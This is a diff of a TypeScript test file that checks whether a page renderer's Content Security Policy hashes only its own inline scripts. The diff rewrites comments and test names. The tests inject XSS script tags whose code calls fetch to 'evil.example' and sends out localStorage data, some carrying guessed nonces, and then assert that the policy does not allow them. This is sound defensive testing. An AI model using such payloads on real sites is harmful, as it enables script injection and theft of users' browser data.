@@ -17,7 +17,7 @@ afterAll(() => void vi.unstubAllEnvs())
 
 const STOLEN = 'fetch("https://evil.example/?" + localStorage.length)'
 
-/** What a builder wrote about an instrument, had it ever come through as markup. */
+/** A builder's description, as if it had ever been rendered as markup. */
 function Instrument() {
   const words = `<script>${STOLEN}</script><script nonce="guessed">${STOLEN}</script><script async nonce>${STOLEN}</script>`
   // biome-ignore lint/security/noDangerouslySetInnerHtml: the fault that this test is about
@@ -69,12 +69,12 @@ async function render() {
 }
 const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`
 
-/** Inline scripts as a browser would run them. */
+/** The inline scripts that a browser would run. */
 function inlineScripts(html: string) {
   return [...html.matchAll(/<script(?![^>]*(?:\bsrc=|ld\+json))[^>]*>([\s\S]*?)<\/script>/g)].map(([, script = '']) => script)
 }
 
-test('a script that came into the page with somebody’s words is not in its policy, and all of the renderer’s own are', async () => {
+test('the policy lists the renderer’s own inline scripts and none that came in with user text', async () => {
   const { html, hashes } = await render()
 
   expect(html).toContain(`<script>${STOLEN}</script>`)
@@ -84,7 +84,7 @@ test('a script that came into the page with somebody’s words is not in its pol
   expect(hashes.toSorted()).toEqual([...new Set([PRE_HYDRATION_SCRIPT, ...own].map(hashOf))].toSorted())
 })
 
-test('what a page says to search engines is not in its policy, and words in it stay words', async () => {
+test('structured data for search engines needs no entry in the policy, and text in it stays text', async () => {
   const { html, hashes } = await render()
 
   const [, data = ''] = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html) ?? []
@@ -92,7 +92,7 @@ test('what a page says to search engines is not in its policy, and words in it s
   expect(hashes).not.toContain(hashOf(data))
 })
 
-test('a page holds nothing that differs from one rendering to the next: it may be kept and sent to many', async () => {
+test('a page renders the same every time, so it can be cached and sent to many people', async () => {
   const [first, second] = [await render(), await render()]
   expect(first).toEqual(second)
   expect(first.html.replace('nonce="guessed"', '')).not.toContain('nonce="')
